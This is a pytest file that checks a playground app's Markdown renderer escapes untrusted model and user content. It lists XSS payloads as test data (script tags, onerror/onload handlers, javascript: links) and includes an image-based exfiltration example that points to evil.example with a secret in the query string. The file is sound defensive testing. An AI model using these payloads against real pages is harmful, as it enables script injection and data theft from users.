"""Model output and user messages are untrusted: their Markdown is rendered on the server with raw
HTML disabled and sanitised, so script, event handlers and javascript: links show as text."""
from html.parser import HTMLParser

import pytest

from apps.playground import services
from apps.playground.rendering import render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "```\n</code><script>alert(1)</script>\n```",
    '<div style="background:url(javascript:alert(1))">x</div>',
]


class Elements(HTMLParser):
    """The elements and attributes a browser would build from the HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_in_markdown_renders_as_inert_text(text):
    html = render_markdown(text)
    for tag, attributes in Elements(html).found:
        assert tag in ("p", "pre", "code", "a"), (text, html)
        assert not any(name.startswith("on") or name == "style" for name in attributes), (text, html)
        assert not attributes.get("href", "").lower().startswith("javascript"), (text, html)


def test_the_script_tag_is_shown_as_its_text():
    assert render_markdown("<script>alert(1)</script>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"
    assert "&lt;img src=x onerror=alert(1)&gt;" in render_markdown("<img src=x onerror=alert(1)>")


def test_markdown_still_renders_code_tables_and_safe_links():
    html = render_markdown("**bold** and `code`\n\n```python\nprint(1)\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
                           "[docs](https://example.org)")
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html
    assert '<code class="language-python">print(1)\n</code>' in html
    assert '<td style="text-align:right">2</td>' in html
    assert '<a href="https://example.org" rel="noopener noreferrer nofollow">docs</a>' in html


def test_an_image_shows_as_a_link_and_is_never_loaded():
    html = render_markdown("![leak](https://evil.example/p.png?q=secret)")
    assert "<img" not in html and 'href="https://evil.example/p.png?q=secret"' in html


def test_a_user_message_and_an_answer_holding_html_reach_the_page_escaped(users, conversation):
    owner = users["owner"]
    (asked,), (reply,) = services.send(owner, conversation, content="<img src=x onerror=alert(1)> hi")
    services.finish_turn(reply.pk, status="done", content='<script>alert("x")</script>')
    reply.refresh_from_db()
    assert "<img" not in services.message_payload(asked)["html"]
    assert services.message_payload(reply)["html"] == "<p>&lt;script&gt;alert(\"x\")&lt;/script&gt;</p>\n"
